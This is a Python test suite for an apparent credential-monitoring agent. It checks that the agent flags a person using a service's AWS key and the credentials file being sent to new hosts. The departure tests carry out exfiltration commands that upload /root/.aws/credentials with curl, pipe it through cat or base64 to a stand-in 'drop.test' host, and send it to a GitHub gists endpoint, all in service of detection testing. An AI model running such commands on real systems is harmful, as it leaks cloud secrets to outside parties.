# SPDX-License-Identifier: Apache-2.0
"""Findings that need more than one process: a person uses a key that was a service's; a key leaves with a new
reader."""
import subprocess
import time

from case import S3, SystemCase, needs
from rows import Acquisition, Use
from stage.world import PYTHON

CREDENTIALS = "/root/.aws/credentials"
PERSON = 4242  # a login that no passwd knows: shown by its number, and its home is not root's
SET_LOGIN = f"open('/proc/self/loginuid', 'w').write('{PERSON}')"


class PersonAndWorkload(SystemCase):
    def setUp(self):
        super().setUp()
        tried = subprocess.run([PYTHON, "-I", "-c", SET_LOGIN], capture_output=True, text=True, check=False)
        if tried.returncode != 0:
            self.skipTest("this kernel lets root set no login: " + tried.stderr.strip().splitlines()[-1])
        self.key = self.maker.aws()
        self.plant(".aws/credentials", self.key.profile())

    def act(self, **who):
        return self.actor("read", CREDENTIALS, "call", S3, **who).wait()

    def rows_of(self, *processes):
        return ([Acquisition("file", CREDENTIALS, self.key.id, selector="default", pid=one.pid) for one in processes],
                [Use("inferred", "only_key_held", [self.key.id], pid=one.pid) for one in processes])

    def finding(self):
        return [row for row in self.rows() if row["type"] == "finding"][0]

    def test_a_person_uses_the_key_of_a_service(self):
        service = self.act(cgroups=self.unit("api"))
        self.agent.quiet()
        self.assertEqual([row for row in self.rows() if row["type"] == "finding"], [], "the service itself is none")
        person = self.act(login_uid=PERSON)
        self.expect(*self.rows_of(service, person), ["person_used_workload_key"])
        found = self.finding()
        self.assertEqual((found["actor"]["pid"], found["key"]["id"], found["severity"]),
                         (person.pid, self.key.id, "high"))
        self.assertEqual(found["attack"], ["T1552.001", "T1078.004"])
        self.assertEqual(found["state"], "open")
        self.assertIn(f"{PERSON} (as root) read key {self.key.id} and used it (inferred) (", found["text"])

    def test_a_key_that_only_a_person_had_is_no_finding(self):
        person = self.act(login_uid=PERSON)
        service = self.act(cgroups=self.unit("late"))
        again = self.act(login_uid=PERSON)  # in another session: its use is counted with the first
        acquisitions, uses = self.rows_of(person, service)
        acquisitions += self.rows_of(again)[0]
        for use in uses:
            use.connections = None
        self.expect(acquisitions, uses, [], truth={S3: 3})


@needs("/usr/bin/curl")
class Departure(SystemCase):
    """A key is read by somebody who never read it, and then a place is called that is not the key's own."""
    def make_agent(self):
        agent = self.own_agent()
        agent.configure("findings:\n  departure: {after_seconds: 1}\n")
        return agent

    def setUp(self):
        super().setUp()
        self.agent.start()
        self.key = self.maker.aws()
        self.plant(".aws/credentials", self.key.profile())
        self.host = f"{self.maker.public(8)}.drop.test"
        self.world.command("address " + self.host)
        self.actor("read", CREDENTIALS, "call", S3).wait()
        time.sleep(1.2)

    def departures(self):
        self.agent.quiet()
        return [row["text"] for row in self.rows() if row["type"] == "finding"]

    def test_an_upload_by_a_program_that_never_read_the_key(self):
        self.start(["/usr/bin/curl", "-sk", "-F", "f=@" + CREDENTIALS, f"https://{self.host}/"]).wait(code=None)
        found, = self.departures()
        self.assertIn(f"curl read key {self.key.id} from {CREDENTIALS} [default], which it had not read before, and "
                      f"then curl called {self.host}:443", found)

    def test_what_cat_read_and_a_pipe_carried(self):
        lines = {"cat": f"cat {CREDENTIALS} | curl -sk -T - https://{self.host}/; sleep 0.5",
                 "base64": f'curl -sk -d "$(base64 {CREDENTIALS})" https://{self.host}/; sleep 0.5'}
        for line in lines.values():
            self.start(["/bin/sh", "-c", line]).wait(code=None)
        found = self.departures()
        self.assertEqual(len(found), 2, found)
        for text, reader in zip(found, lines):
            self.assertIn(f": {reader} read key {self.key.id} ", text)
            self.assertIn(f"then curl called {self.host}:443", text)

    def test_what_a_pipe_carried_to_a_place_that_does_not_take_the_key(self):
        self.start(["/bin/sh", "-c", f"cat {CREDENTIALS} | curl -sk -T - https://api.github.com/gists; "
                    "sleep 0.5"]).wait(code=None)
        found, = self.departures()
        self.assertIn(f": cat read key {self.key.id} ", found)
        self.assertIn("then curl called api.github.com:443", found)

    def test_the_usual_reader_and_a_new_one_at_the_keys_own_place_are_none(self):
        self.actor("read", CREDENTIALS, "call", self.host).wait()
        self.start(["/bin/sh", "-c", f"curl -sk -H @{CREDENTIALS} https://{S3}/"]).wait(code=None)
        self.assertEqual(self.departures(), [])
